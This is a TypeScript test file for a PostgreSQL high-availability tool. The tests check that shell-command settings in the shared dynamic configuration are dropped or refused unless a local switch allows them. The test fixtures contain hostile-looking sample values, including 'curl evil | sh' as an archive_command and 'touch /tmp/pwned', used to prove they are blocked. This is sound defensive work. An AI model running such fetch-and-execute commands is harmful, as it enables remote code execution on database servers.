// Issue 16 (review C1): commands in the dynamic configuration apply, and may be written, only when
// the local YAML sets postgresql.allow_dcs_commands. The rule is written once (dcs-commands.ts);
// these tests pin it. Its users are tested at their own level (REST API, pghactl, agent, engine).
import { describe, expect, it } from 'vitest';
import {
  ALLOW_DCS_COMMANDS,
  DcsCommandCode,
  dcsCommandKeys,
  dcsCommandsAllowed,
  dcsCommandWriteProblem,
  dynamicConfigWriteProblem,
  SHELL_COMMAND_SETTINGS,
  withoutDcsCommands,
} from '../src/index.js';

const EVERYTHING = {
  ttl: 30,
  postgresql: {
    use_pg_rewind: true,
    parameters: { work_mem: '4MB', archive_mode: 'on', archive_command: 'curl evil | sh', ssl_passphrase_command: 'x' },
    recovery_conf: { archive_cleanup_command: 'pg_archivecleanup /wal %r', recovery_min_apply_delay: '1min' },
    callbacks: { on_start: '/tmp/x' },
    pre_promote: '/tmp/y',
    wal_g: { command: 'wal-g.sh', keep_data: true },
  },
  standby_cluster: { host: 'remote', port: 5432, restore_command: 'cp /wal/%f %p', primary_slot_name: 's' },
};

describe('which keys are commands', () => {
  it("covers PostgreSQL 15's shell-command settings", () => {
    expect([...SHELL_COMMAND_SETTINGS].sort()).toEqual(['archive_cleanup_command', 'archive_command', 'recovery_end_command', 'restore_command', 'ssl_passphrase_command']);
  });

  it('finds them in parameters, recovery_conf and standby_cluster, and the scripts pgha runs itself', () => {
    expect(dcsCommandKeys(EVERYTHING).map((k) => [k.path, k.code, k.localPath])).toEqual([
      ['postgresql.parameters.archive_command', 'DCS_COMMAND_NOT_ALLOWED', 'postgresql.parameters.archive_command'],
      ['postgresql.parameters.ssl_passphrase_command', 'DCS_COMMAND_NOT_ALLOWED', 'postgresql.parameters.ssl_passphrase_command'],
      ['postgresql.recovery_conf.archive_cleanup_command', 'DCS_COMMAND_NOT_ALLOWED', 'postgresql.recovery_conf.archive_cleanup_command'],
      ['postgresql.callbacks', 'DCS_COMMAND_LOCAL_ONLY', 'postgresql.callbacks'],
      ['postgresql.pre_promote', 'DCS_COMMAND_LOCAL_ONLY', 'postgresql.pre_promote'],
      ['postgresql.wal_g.command', 'DCS_COMMAND_LOCAL_ONLY', 'postgresql.wal_g.command'],
      ['standby_cluster.restore_command', 'DCS_COMMAND_NOT_ALLOWED', 'postgresql.recovery_conf.restore_command'],
    ]);
  });

  it('finds nothing in a configuration without commands, or in values of the wrong shape', () => {
    expect(dcsCommandKeys({ ttl: 30, postgresql: { parameters: { work_mem: '4MB' }, pg_hba: ['local all all trust'] }, standby_cluster: { host: 'h', port: 5432 } })).toEqual([]);
    expect(dcsCommandKeys({ postgresql: 'text', standby_cluster: ['restore_command'] })).toEqual([]);
  });

  it('reads the switch as YAML spells booleans; anything else is off', () => {
    expect(ALLOW_DCS_COMMANDS).toBe('postgresql.allow_dcs_commands');
    for (const v of [true, 'true', 'on', 'Yes', '1']) expect(dcsCommandsAllowed({ allow_dcs_commands: v })).toBe(true);
    for (const v of [false, 'off', 'no', 0, 1, null, undefined, {}]) expect(dcsCommandsAllowed({ allow_dcs_commands: v })).toBe(false);
    expect(dcsCommandsAllowed(undefined)).toBe(false);
  });
});

describe('applying: withoutDcsCommands', () => {
  it('switch off: drops every command and script, keeps the rest, says what applies instead, and leaves the input alone', () => {
    const before = structuredClone(EVERYTHING);
    const { config, ignored } = withoutDcsCommands(EVERYTHING, { allowDcsCommands: false, localPostgresql: { parameters: { archive_command: 'local-archive %p' } } });
    expect(config).toEqual({
      ttl: 30,
      postgresql: {
        use_pg_rewind: true,
        parameters: { work_mem: '4MB', archive_mode: 'on' },
        recovery_conf: { recovery_min_apply_delay: '1min' },
        wal_g: { keep_data: true },
      },
      standby_cluster: { host: 'remote', port: 5432, primary_slot_name: 's' },
    });
    expect(EVERYTHING).toEqual(before);
    expect(ignored.map((i) => i.message)).toEqual([
      'config.postgresql.parameters.archive_command: ignored: PostgreSQL runs it as a shell command, and the local YAML does not set postgresql.allow_dcs_commands: true; the local postgresql.parameters.archive_command applies',
      'config.postgresql.parameters.ssl_passphrase_command: ignored: PostgreSQL runs it as a shell command, and the local YAML does not set postgresql.allow_dcs_commands: true; postgresql.parameters.ssl_passphrase_command is not set in the local YAML',
      'config.postgresql.recovery_conf.archive_cleanup_command: ignored: PostgreSQL runs it as a shell command, and the local YAML does not set postgresql.allow_dcs_commands: true; postgresql.recovery_conf.archive_cleanup_command is not set in the local YAML',
      'config.postgresql.callbacks: ignored: pgha runs callbacks, hooks and replica methods only from the local YAML; postgresql.callbacks is not set in the local YAML',
      'config.postgresql.pre_promote: ignored: pgha runs callbacks, hooks and replica methods only from the local YAML; postgresql.pre_promote is not set in the local YAML',
      'config.postgresql.wal_g.command: ignored: pgha runs callbacks, hooks and replica methods only from the local YAML; postgresql.wal_g.command is not set in the local YAML',
      'config.standby_cluster.restore_command: ignored: PostgreSQL runs it as a shell command, and the local YAML does not set postgresql.allow_dcs_commands: true; postgresql.recovery_conf.restore_command is not set in the local YAML',
    ]);
    expect(new Set(ignored.map((i) => i.code))).toEqual(new Set([DcsCommandCode.NotAllowed, DcsCommandCode.LocalOnly]));
  });

  it('switch on: PostgreSQL commands apply; the scripts pgha runs are still local-only', () => {
    const { config, ignored } = withoutDcsCommands(EVERYTHING, { allowDcsCommands: true });
    expect(config['postgresql']).toMatchObject({ parameters: EVERYTHING.postgresql.parameters, recovery_conf: EVERYTHING.postgresql.recovery_conf });
    expect(config['standby_cluster']).toEqual(EVERYTHING.standby_cluster);
    expect(ignored.map((i) => i.path)).toEqual(['postgresql.callbacks', 'postgresql.pre_promote', 'postgresql.wal_g.command']);
  });

  it('returns the same object when there is nothing to drop', () => {
    const clean = { ttl: 30, postgresql: { parameters: { work_mem: '4MB' } } };
    expect(withoutDcsCommands(clean, { allowDcsCommands: false }).config).toBe(clean);
  });
});

describe('writing: dcsCommandWriteProblem and dynamicConfigWriteProblem', () => {
  const stored = { ttl: 30, postgresql: { parameters: { archive_mode: 'on', archive_command: 'wal-g wal-push %p' } } };

  it('switch off: refuses a new or changed command, naming the key and the switch', () => {
    const problem = dcsCommandWriteProblem({ postgresql: { recovery_conf: { archive_cleanup_command: 'touch /tmp/pwned' } } }, stored, false);
    expect(problem).toEqual({
      code: 'DCS_COMMAND_NOT_ALLOWED',
      path: 'postgresql.recovery_conf.archive_cleanup_command',
      message:
        'postgresql.recovery_conf.archive_cleanup_command: PostgreSQL would run it as a shell command on every member; commands are not accepted in the dynamic configuration unless the local YAML sets postgresql.allow_dcs_commands: true (or set it locally, in postgresql.recovery_conf.archive_cleanup_command)',
    });
    const changed = { ...stored, postgresql: { parameters: { archive_mode: 'on', archive_command: 'curl evil | sh' } } };
    expect(dcsCommandWriteProblem(changed, stored, false)?.path).toBe('postgresql.parameters.archive_command');
    expect(dcsCommandWriteProblem({ standby_cluster: { host: 'h', restore_command: 'x' } }, null, false)?.message).toMatch(/^standby_cluster\.restore_command: .*postgresql\.allow_dcs_commands: true \(or set it locally, in postgresql\.recovery_conf\.restore_command\)$/);
  });

  it('switch off: a command stored and left unchanged passes (pause on a cluster that has one), and removing one passes', () => {
    expect(dcsCommandWriteProblem({ ...stored, pause: true }, stored, false)).toBeNull();
    // Same value, keys in another order.
    expect(dcsCommandWriteProblem({ pause: true, postgresql: { parameters: { archive_command: 'wal-g wal-push %p', archive_mode: 'on' } }, ttl: 30 }, stored, false)).toBeNull();
    expect(dcsCommandWriteProblem({ ttl: 30, postgresql: { parameters: { archive_mode: 'on' } } }, stored, false)).toBeNull();
  });

  it('switch on: PostgreSQL commands pass; scripts pgha runs are refused all the same', () => {
    expect(dcsCommandWriteProblem({ postgresql: { recovery_conf: { archive_cleanup_command: 'x' } }, standby_cluster: { host: 'h', restore_command: 'y' } }, null, true)).toBeNull();
    expect(dcsCommandWriteProblem({ postgresql: { callbacks: { on_start: '/x' } } }, null, true)).toEqual({
      code: 'DCS_COMMAND_LOCAL_ONLY',
      path: 'postgresql.callbacks',
      message: 'postgresql.callbacks: pgha runs callbacks, hooks and replica methods only from the local YAML (postgresql.callbacks); a value in the dynamic configuration is never used',
    });
  });

  it('dynamicConfigWriteProblem checks the value rules first, then the command rule', () => {
    expect(dynamicConfigWriteProblem({ ttl: 1, postgresql: { parameters: { archive_command: 'x' } } }, { allowDcsCommands: false })).toBe('ttl: must be between 4 and 86400 seconds, got 1');
    expect(dynamicConfigWriteProblem({ ttl: 30, postgresql: { parameters: { archive_command: 'x' } } }, { allowDcsCommands: false })).toMatch(/^postgresql\.parameters\.archive_command: /);
    expect(dynamicConfigWriteProblem({ ttl: 30, postgresql: { parameters: { archive_command: 'x' } } }, { allowDcsCommands: true })).toBeNull();
    expect(dynamicConfigWriteProblem({ ttl: 30, standby_cluster: { host: 'remote', port: 5433 } }, { allowDcsCommands: false })).toBeNull();
  });
});
